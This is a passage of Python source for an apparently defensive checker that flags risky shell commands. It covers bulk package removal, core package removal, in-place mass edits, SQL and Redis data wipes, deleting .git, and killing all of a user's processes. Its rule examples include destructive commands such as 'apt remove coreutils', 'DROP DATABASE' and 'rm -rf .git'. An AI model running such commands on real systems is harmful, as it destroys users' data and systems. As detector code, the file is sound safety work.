        return next((o for o in (cmd.operands if cmd.name != "mv" else cmd.operands[:-1]) if dot(o)), None)
    return None


_REMOVE_VERBS = frozenset("remove purge erase autoremove del uninstall rm".split())
# the tools whose removal is an option, not a subcommand: `pacman -Rns`, `rpm -e`, `dpkg -P`
_REMOVE_FLAGS = {
    "pacman": re.compile(r"-R\w*"),
    "rpm": re.compile(r"-e"),
    "dpkg": re.compile(r"-[Pr]|--(?:purge|remove)"),
}
_PACKAGE_TOOLS = frozenset(
    "apt apt-get aptitude yum dnf zypper pacman apk dpkg rpm pip pip3 pipx npm pnpm yarn brew port gem snap flatpak "
    "cargo conda mamba".split()
)
# a substitution that lists what is installed: `$(brew list)`, `$(pip freeze)`, `$(dpkg -l | …)`
_INSTALLED_LIST = re.compile(
    r"^\s*(?:brew\s+(?:list|leaves)|pip3?\s+(?:freeze|list)|dpkg\s+(?:-l|--get-selections)|rpm\s+-qa|pacman\s+-Q(?![a-z]*[dt])"
    r"|apt\s+list|npm\s+(?:ls|list)|gem\s+list|snap\s+list|flatpak\s+list|conda\s+list)"
)


@rule(
    "packages",
    HIGH,
    "removes {}: check the list first",
    examples=(
        "sudo apt-get purge -y 'php*'",
        "pip freeze | xargs pip uninstall -y",
        "brew uninstall --force $(brew list --formula)",
    ),
    counterexamples=(
        "sudo apt-get purge -y php8.2-cli",
        "pip uninstall -y requests",
        "pip freeze > requirements.txt",
        "pip install -e '.[dev]'",
        "sudo pacman -Rns $(pacman -Qdtq)",
    ),
)
def remove_many_packages(cmd: Cmd, ctx: Ctx) -> str | None:
    """Packages removed by a pattern or by a list another command makes: often many more than meant."""
    flag = _REMOVE_FLAGS.get(cmd.name)
    removes = (
        bool(_REMOVE_VERBS & set(cmd.operands[:2])) or flag is not None and any(flag.fullmatch(a) for a in cmd.args)
    )
    if cmd.name not in _PACKAGE_TOOLS or not removes:
        return None
    if pattern := next((o for o in cmd.operands if any(c in o for c in "*?")), None):  # `[extras]` is no glob
        return f"every package matching {pattern}"
    listed_here = cmd.from_stdin and bool(_PACKAGE_TOOLS & set(cmd.pipe_before))  # `pip freeze | xargs pip uninstall`
    if listed_here or any(_INSTALLED_LIST.match(sub) for sub in cmd.subs):
        return "every package installed"
    if cmd.from_stdin:
        return "every package in the list it is given"
    return None


@rule(
    "packages",
    HIGH,
    "removes {}, a package the system needs to run",
    examples=("apt remove coreutils", "sudo apt-get purge sudo", "yum remove systemd"),
    counterexamples=("apt remove vim",),
)
def remove_core_package(cmd: Cmd, ctx: Ctx) -> str | None:
    core = {
        "libc6",
        "glibc",
        "bash",
        "coreutils",
        "systemd",
        "sudo",
        "apt",
        "dpkg",
        "rpm",
        "yum",
        "dnf",
        "python3",
        "openssh-server",
        "linux-image",
        "grub",
        "grub2",
        "kernel",
        "util-linux",
        "login",
        "passwd",
    }
    if cmd.name in ("apt", "apt-get", "yum", "dnf", "zypper", "pacman", "apk", "dpkg", "rpm") and any(
        a in ("remove", "purge", "erase", "autoremove", "del", "-R", "-Rns", "-Rs", "-e", "-P", "-r") for a in cmd.args
    ):
        return next((o for o in cmd.operands if o in core or o.startswith("linux-image")), None)
    return None


@rule(
    "edit",
    HIGH,
    "edits {} in place with no copy to go back to: check the pattern on one file first",
    examples=(
        "find . -type f -name '*.js' -exec sed -i 's/var /let /g' {} +",
        "grep -rl oldName src | xargs sed -i 's/oldName/newName/g'",
        "sed -i '' 's/foo/bar/g' **/*.swift",
        "find . -name '*.py' | xargs perl -pi -e 's/a/b/'",
        "sed -i 's/http:/https:/g' $(grep -rl 'http:' src/)",
        "find ~/Pictures -name '*.jpg' -size +5M -exec mogrify -resize 50% {} +",
    ),
    counterexamples=(
        "sed -i 's/foo/bar/' notes.txt",
        "sed -i.bak 's/a/b/' *.conf",
        "find . -name '*.js' -exec sed -n '1p' {} +",
        "sed 's/a/b/' **/*.txt",
        "sed -i 's/a/b/' $(cat list.txt)",
    ),
)
def mass_edit(cmd: Cmd, ctx: Ctx) -> str | None:
    """An in-place edit of every file a search finds (find -exec, xargs, `**`): one wrong pattern
    changes a whole tree, and sed keeps no backup unless it is given a suffix."""
    args = cmd.args
    if cmd.name in ("sed", "gsed"):
        inplace = [k for k, a in enumerate(args) if a in ("-i", "--in-place") or re.fullmatch(r"-[nrEsu]*i", a)]
        backup = any(a.startswith("--in-place=") or re.fullmatch(r"-i\S+", a) for a in args) or any(
            k + 1 < len(args) and args[k + 1].startswith(".") and args[k + 1] != "." for k in inplace
        )
    elif cmd.name in ("mogrify", "magick") and (cmd.name == "mogrify" or cmd.args[:1] == ["mogrify"]):
        inplace, backup = [0], False  # ImageMagick's mogrify rewrites every image it is given
    elif cmd.name == "perl":
        # `-pi` edits in place; whatever follows the i is the backup's suffix (`-pi.bak`, even `-pie`)
        inplace = [k for k, a in enumerate(args) if re.fullmatch(r"-[a-zA-Z]*i\S*", a)]
        backup = any(re.fullmatch(r"-[a-zA-Z]*i\S+", a) for a in args)
    else:
        return None
    if not inplace or backup:
        return None
    if cmd.from_stdin:
        return "every file listed to it"
    if "find" in cmd.via:
        return "every file find matches"
    if searched := next((sub for sub in cmd.subs if _SEARCH_LIST.match(sub)), None):
        return f"every file {searched.split()[0]} lists"
    return next((f"every file matching {o}" for o in cmd.operands if "**" in o), None)


# a substitution that lists files found by a search: `$(grep -rl old src/)`, `$(find . -name '*.py')`
_SEARCH_LIST = re.compile(
    r"^\s*(?:find\s|rg\s+(?:-\w*l|--files)|git\s+(?:ls-files|grep\s+-\w*l)|grep\s+(?=.*-\w*[rR])(?=.*-\w*l))"
)


_SQL_LOSES = re.compile(
    r"\b(?:DROP\s+(?:DATABASE|SCHEMA|TABLE|COLLECTION)|TRUNCATE(?:\s+TABLE)?\s+\w|DELETE\s+FROM\s+[\w.\"`]+\s*(?:;|$))"
    r"|\.drop(?:Database)?\(\)|\bFLUSH(?:ALL|DB)\b",
    re.IGNORECASE,
)
_DB_CLIENTS = frozenset(
    "psql mysql mariadb sqlite3 sqlcmd clickhouse-client cqlsh mongo mongosh redis-cli duckdb cockroach".split()
)


@rule(
    "database",
    HIGH,
    "{}: the rows or tables are gone unless there is a backup",
    examples=(
        "psql -U postgres -c 'DROP DATABASE app;'",
        "mysql -e 'TRUNCATE TABLE orders' shop",
        "sqlite3 app.db 'DELETE FROM users;'",
        "redis-cli FLUSHALL",
        "mongosh app --eval 'db.dropDatabase()'",
    ),
    counterexamples=(
        "psql -c 'SELECT count(*) FROM users'",
        "sqlite3 app.db \"DELETE FROM sessions WHERE expires < date('now')\"",
        "mysql -e 'SHOW TABLES' shop",
    ),
)
def sql_loses_data(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name not in _DB_CLIENTS:
        return None
    m = next((m for a in cmd.args if (m := _SQL_LOSES.search(a))), None)
    return " ".join(m.group(0).split()).rstrip(";") if m else None


@rule(
    "git",
    HIGH,
    "deletes {}, the repository's whole history and unpushed work",
    examples=("rm -rf .git", "rm -rf ~/code/app/.git/"),
    counterexamples=("rm -rf .github", "rm .gitignore", "rm -rf .git/hooks/pre-commit.sample"),
)
def deletes_git_dir(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name != "rm" or not _recursive(cmd):
        return None
    return next((o for o in cmd.operands if P.normalise(o).rsplit("/", 1)[-1] == ".git"), None)


@rule(
    "processes",
    HIGH,
    "kills every process of {}, this session and its editors included",
    examples=('pkill -9 -u "$(id -un)"', "pkill -u alice", "killall -u bob"),
    counterexamples=("pkill -u alice firefox", "pgrep -u alice", "pkill -HUP -u www-data nginx"),
)
def kill_all_of_user(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name not in ("pkill", "killall", "slay") or _signal(cmd) in _HARMLESS_SIGNALS:
        return None
    users = [cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-u", "-U", "--user", "--euid", "--uid")]
    values = set(users) | {
        cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-s", "--signal", "-n", "-g", "-t")
    }
    pattern = [o for o in cmd.operands if o not in values]
    return users[0] if users and not pattern else None


RULES: tuple[Rule, ...] = tuple(_RULES)  # in the order they are defined above
